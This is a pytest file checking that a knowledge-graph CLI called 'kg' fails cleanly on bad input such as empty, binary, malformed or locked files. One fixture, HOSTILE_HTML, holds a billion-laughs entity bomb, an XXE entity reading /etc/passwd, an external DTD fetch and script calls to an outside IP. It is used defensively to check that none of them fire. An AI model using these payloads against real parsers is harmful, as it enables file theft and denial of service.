"""Failure modes, through the CLI: every bad input gets one line that names the file, line or
flag and says what to do, the documented exit code, no traceback, and no output file."""

from __future__ import annotations

import gzip
import os
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from kg.cli import cli
from kg.extract import split

ROOT = Path(__file__).resolve().parents[1]
ARTICLE = Path(__file__).parent / "fixtures" / "taliban-twitter-threads.txt"
GOOD = "Acme Corp banned Bob Smith. Ada Lovelace founded Initech in London.\n"


@pytest.fixture
def run(tmp_path: Path) -> object:
    """``run(*args)``: kg in-process, with a private cache, from ``tmp_path``."""
    runner = CliRunner()
    env = {"KG_CACHE_DIR": str(tmp_path / ".cache")}

    def invoke(*args: str, input: str | None = None) -> Result:
        return runner.invoke(cli, list(args), env=env, input=input, prog_name="kg")

    return invoke


def _error(result: Result, code: int, *words: str) -> str:
    """Assert a one-line ``kg: error:`` with ``words``, exit ``code``, no traceback."""
    assert result.exit_code == code, (result.exit_code, result.stderr, result.exception)
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert "Traceback" not in result.stderr + result.stdout
    lines = [line for line in result.stderr.splitlines() if line.startswith("kg: error:")]
    assert len(lines) == 1, result.stderr
    for word in words:
        assert word in lines[0], (word, lines[0])
    return lines[0]


def _nothing_written(directory: Path, *keep: str) -> None:
    """No output and no temporary file in ``directory`` besides ``keep``."""
    left = sorted(p.name for p in directory.iterdir() if p.name != ".cache")
    assert left == sorted(keep), left


# --------------------------------------------------------------------------- bad input files


@pytest.mark.parametrize("content", [b"", b"  \n\t\n \r\n"], ids=["empty", "whitespace"])
def test_empty_or_whitespace_file(run, tmp_path: Path, content: bytes) -> None:
    src = tmp_path / "blank.txt"
    src.write_bytes(content)
    line = _error(run("build", str(src), "-o", str(tmp_path / "out.ttl")), 1, "blank.txt")
    assert "is empty: nothing to build" in line
    _nothing_written(tmp_path, "blank.txt")


@pytest.mark.parametrize(
    ("content", "kind", "advice"),
    [
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", "a PDF file", "name it .pdf"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "a PNG image", "kg reads text, not images"),
        (gzip.compress(GOOD.encode()), "a gzip file", "decompress it first"),
        (b"text\x00with\x00nul\x00bytes", "a binary file", "give a file kg reads (.atom"),
    ],
    ids=["pdf", "png", "gzip", "nul"],
)
def test_binary_file_given_as_text(
    run, tmp_path: Path, content: bytes, kind: str, advice: str
) -> None:
    src = tmp_path / "article.txt"
    src.write_bytes(content)
    line = _error(run("build", str(src), "-o", str(tmp_path / "out.ttl")), 1, "article.txt")
    assert kind in line and advice in line
    _nothing_written(tmp_path, "article.txt")


def test_invalid_utf8_warns_names_the_file_and_the_build_goes_on(run, tmp_path: Path) -> None:
    (tmp_path / "latin.txt").write_bytes(
        "Caf\xe9 owner Bob Smith met Acme Corp.\n".encode("cp1252")
    )
    (tmp_path / "good.txt").write_text(GOOD, encoding="utf-8")
    out = tmp_path / "out.ttl"
    result = run("build", str(tmp_path / "latin.txt"), str(tmp_path / "good.txt"), "-o", str(out))
    assert result.exit_code == 0, result.stderr
    assert f"kg: warning: {tmp_path / 'latin.txt'}: not valid UTF-8, read as Windows-1252" in (
        result.stderr
    )
    assert "kg: 2 documents" in result.stderr
    assert "Café" in out.read_text(encoding="utf-8")


def test_lone_surrogates_in_jsonl_are_replaced_with_a_warning(run, tmp_path: Path) -> None:
    src = tmp_path / "odd.jsonl"
    src.write_text('{"id": "a", "text": "Acme Corp banned Bob Smith. \\ud800 Bye."}\n')
    for fmt in ("ttl", "xml", "jsonl", "nq"):
        out = tmp_path / f"out.{fmt}"
        result = run("build", str(src), "-o", str(out))
        assert result.exit_code == 0, result.stderr
        assert "odd.jsonl:1: lone surrogate escapes" in result.stderr
        assert "\ufffd" in out.read_text(encoding="utf-8") or fmt == "jsonl"


def test_long_article_is_split_not_refused(
    run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A document longer than kg.extract.split.MAX_CHARS is parsed in pieces (here tiny ones); the
    20 MB case is in tests/test_split.py (smaller, slow) and README "Failure modes"."""
    import rdflib

    monkeypatch.setattr(split, "MAX_CHARS", 400)
    src = tmp_path / "long.txt"
    src.write_text((GOOD + "\n") * 20, encoding="utf-8")
    out = tmp_path / "out.nt"
    result = run("build", str(src), "-o", str(out), "--no-cache")
    assert result.exit_code == 0, result.stderr
    g = rdflib.Graph().parse(out, format="nt")
    nif = rdflib.Namespace("http://persistence.uni-leipzig.org/nlp2rdf/ontologies/nif-core#")
    text = src.read_text(encoding="utf-8")
    ends = []
    for sentence in g.subjects(rdflib.RDF.type, nif.Sentence):
        begin = int(g.value(sentence, nif.beginIndex))
        end = int(g.value(sentence, nif.endIndex))
        assert text[begin:end] == str(g.value(sentence, nif.anchorOf))
        ends.append(end)
    assert max(ends) > len(text) - 100  # sentences of the last piece, at whole-text offsets


def test_a_5000_word_sentence_is_built(run, tmp_path: Path) -> None:
    words = ["the", "committee", "and", "its", "members", "from", "many", "towns"]
    sentence = "Acme Corp banned Bob Smith and " + " ".join(words[i % 8] for i in range(5000))
    src = tmp_path / "sentence.txt"
    src.write_text(sentence + ".\n", encoding="utf-8")
    out = tmp_path / "out.ttl"
    started = time.perf_counter()
    result = run("build", str(src), "-o", str(out), "--no-cache")
    assert result.exit_code == 0, result.stderr
    assert time.perf_counter() - started < 120
    assert "kg: 1 document" in result.stderr and out.stat().st_size > 0


HOSTILE_HTML = """<!DOCTYPE html [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
  <!ENTITY net SYSTEM "http://198.51.100.7/evil.dtd">
  %net;
]>
<html><head><title>Acme news</title>
<style>body { color: red } .secret { display: none }</style>
<script>document.write("SCRIPTTEXT"); fetch("http://198.51.100.7/x")</script>
<link rel="stylesheet" href="http://198.51.100.7/s.css">
</head><body>
<!-- COMMENTTEXT Acme Corp banned Nobody -->
<p>Acme Corp banned Bob Smith. &lol4; &xxe; &net;</p>
<script type="module">import "http://198.51.100.7/m.js"; SCRIPTTWO</script>
<noscript>NOSCRIPTTEXT</noscript>
<p>Ada Lovelace founded Initech in London.</p>
<img src="http://198.51.100.7/pixel.png" onerror="alert(1)">
</body></html>
"""


def test_hostile_html_no_expansion_no_external_entity_no_network(
    run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def no_network(*args: object, **kwargs: object) -> None:
        raise AssertionError("kg opened a network connection")

    monkeypatch.setattr(socket.socket, "connect", no_network)
    monkeypatch.setattr(socket, "create_connection", no_network)
    src = tmp_path / "page.html"
    src.write_text(HOSTILE_HTML, encoding="utf-8")
    out = tmp_path / "out.ttl"
    result = run("build", str(src), "-o", str(out), "--no-cache", "--link", "offline")
    assert result.exit_code == 0, result.stderr
    data = out.read_text(encoding="utf-8")
    for banned in ("SCRIPTTEXT", "SCRIPTTWO", "COMMENTTEXT", "NOSCRIPTTEXT", "color: red"):
        assert banned not in data
    assert "lollol" not in data and "root:" not in data  # no expansion, no file read
    assert len(data) < 20_000
    assert "Acme Corp banned Bob Smith" in data and "Ada Lovelace" in data


def test_jsonl_with_one_malformed_line(run, tmp_path: Path) -> None:
    src = tmp_path / "news.jsonl"
    src.write_text(
        '{"id": "a", "text": "Acme Corp banned Bob Smith."}\n'
        '{"id": "b", "text": "unterminated\n'
        '{"id": "c", "text": "Ada Lovelace founded Initech."}\n',
        encoding="utf-8",
    )
    out = tmp_path / "out.ttl"
    line = _error(run("build", str(src), "-o", str(out)), 1, f"{src}:2: not valid JSON")
    assert "each line must be an object" in line
    _nothing_written(tmp_path, "news.jsonl")

    result = run("build", str(src), "-o", str(out), "--skip-errors")
    assert result.exit_code == 0, result.stderr
    assert f"kg: skipped: {src}:2: not valid JSON" in result.stderr
    assert "kg: 1 document skipped" in result.stderr
    assert "kg: 2 documents" in result.stderr and out.exists()


def test_skip_errors_reports_every_skipped_document(run, tmp_path: Path) -> None:
    docs = tmp_path / "news"
    docs.mkdir()
    (docs / "a.txt").write_text(GOOD, encoding="utf-8")
    (docs / "b.txt").write_bytes(b"")
    (docs / "c.txt").write_bytes(b"%PDF-1.4\n")
    (docs / "d.txt").write_text("Ada Lovelace founded Initech.\n", encoding="utf-8")
    out = tmp_path / "out.ttl"
    # without --skip-errors the first bad document stops the build before anything is written
    _error(run("build", str(docs), "-o", str(out)), 1, "b.txt is empty")
    _nothing_written(tmp_path, "news")

    result = run("build", str(docs), "-o", str(out), "--skip-errors")
    assert result.exit_code == 0, result.stderr
    assert "kg: 2 documents" in result.stderr
    assert f"kg: skipped: {docs / 'b.txt'} is empty" in result.stderr
    assert f"kg: skipped: {docs / 'c.txt'} is a PDF file" in result.stderr
    assert result.stderr.strip().endswith("kg: 2 documents skipped")


def test_all_documents_skipped_is_an_error(run, tmp_path: Path) -> None:
    (tmp_path / "b.txt").write_bytes(b"")
    line = _error(
        run("build", str(tmp_path / "b.txt"), "-o", str(tmp_path / "o.ttl"), "--skip-errors"), 1
    )
    assert "all 1 documents were skipped" in line and "b.txt is empty" in line
    _nothing_written(tmp_path, "b.txt")


def test_missing_input(run, tmp_path: Path) -> None:
    line = _error(run("build", str(tmp_path / "nope.txt")), 1, "nope.txt")
    assert "no such file or directory" in line and "check the path" in line


def test_directory_without_supported_files(run, tmp_path: Path) -> None:
    docs = tmp_path / "scans"
    docs.mkdir()
    (docs / "a.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    (docs / "b.xlsx").write_bytes(b"PK")
    line = _error(run("build", str(docs), "-o", str(tmp_path / "o.ttl")), 1, "scans")
    assert "no files kg reads (.atom .docx .htm .html .jsonl" in line
    _nothing_written(tmp_path, "scans")


def test_unknown_format_is_a_one_line_usage_error(run, tmp_path: Path) -> None:
    line = _error(run("build", str(ARTICLE), "--format", "docx"), 2, "unknown format 'docx'")
    assert "choose one of" in line and "ttl" in line and "graphml" in line
    _error(run("frobnicate"), 2, "No such command 'frobnicate'", "see 'kg --help'")
    _error(run("build"), 2, "Missing argument 'INPUT...'")


def test_unwritable_output(run, tmp_path: Path) -> None:
    src = tmp_path / "a.txt"
    src.write_text(GOOD, encoding="utf-8")
    line = _error(run("build", str(src), "-o", str(tmp_path / "no" / "x.ttl")), 1, "x.ttl")
    assert "does not exist; create it" in line
    _error(run("build", str(src), "-o", str(tmp_path)), 2, "'-o' / '--output'", "is a directory")
    locked = tmp_path / "locked"
    locked.mkdir()
    locked.chmod(0o500)
    try:
        if os.access(locked, os.W_OK):  # root writes anywhere: use a read-only file system
            target = Path("/sys/kg-test.ttl") if Path("/sys").is_dir() else None
        else:
            target = locked / "x.ttl"
        if target is None:
            pytest.skip("no unwritable directory to try")
        line = _error(run("build", str(src), "-o", str(target)), 1, str(target))
        assert "choose another -o" in line
    finally:
        locked.chmod(0o700)
    _nothing_written(tmp_path, "a.txt", "locked")
    assert not list(locked.iterdir())


# --------------------------------------------------------------------------- graph commands


@pytest.fixture(scope="module")
def graph(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("graph") / "article.ttl"
    result = CliRunner().invoke(cli, ["build", str(ARTICLE), "-o", str(out), "--no-cache"])
    assert result.exit_code == 0, result.stderr
    return out


@pytest.mark.parametrize("engine", ["oxigraph", "rdflib"])
def test_sparql_syntax_error_names_line_and_column(run, graph: Path, engine: str) -> None:
    query = "SELECT ?x WHERE {\n  ?x a kgo:Person .\n  FILTER( }"
    line = _error(run("query", str(graph), query, "--engine", engine), 1, "SPARQL syntax error")
    assert "line 3" in line or "line 1" in line
    assert "column" in line


def test_path_to_an_unknown_entity_suggests_close_labels(run, graph: Path) -> None:
    line = _error(run("path", str(graph), "Anas Haqani", "Twitter"), 1, "'Anas Haqani'")
    assert "no entity named" in line and "did you mean 'Anas Haqqani'" in line


@pytest.mark.parametrize(
    ("content", "words"),
    [
        ('{"entities": [', ("not valid JSON", "line 1, column")),
        ('{"entities": 3}', ('"entities"',)),
        ("[1, 2]", ("gold",)),
    ],
    ids=["syntax", "entities-not-a-list", "not-an-object"],
)
def test_malformed_gold_file(run, tmp_path: Path, content: str, words: tuple[str, ...]) -> None:
    gold = tmp_path / "gold.json"
    gold.write_text(content, encoding="utf-8")
    _error(run("eval", str(gold), str(ARTICLE)), 1, "gold.json", *words)


# --------------------------------------------------------------------------- the store

_HOLD = """
import sys, time
from kg.query.store import open_store
store = open_store(sys.argv[1], create=True)
print("held", flush=True)
time.sleep(60)
"""


def test_store_locked_by_another_process(run, tmp_path: Path) -> None:
    pytest.importorskip("pyoxigraph")
    store = tmp_path / "kgdb"
    src = tmp_path / "a.txt"
    src.write_text(GOOD, encoding="utf-8")
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    holder = subprocess.Popen(
        [sys.executable, "-c", _HOLD, str(store)], stdout=subprocess.PIPE, text=True, env=env
    )
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "held"
        out = tmp_path / "out.ttl"
        line = _error(run("build", str(src), "--store", str(store), "-o", str(out)), 1)
        assert f"store {store} is locked by another process" in line and "wait" in line
        assert not out.exists()
        line = _error(run("query", "--store", str(store), "ASK { ?s ?p ?o }"), 1)
        assert "is locked by another process" in line
    finally:
        holder.kill()
        holder.wait()
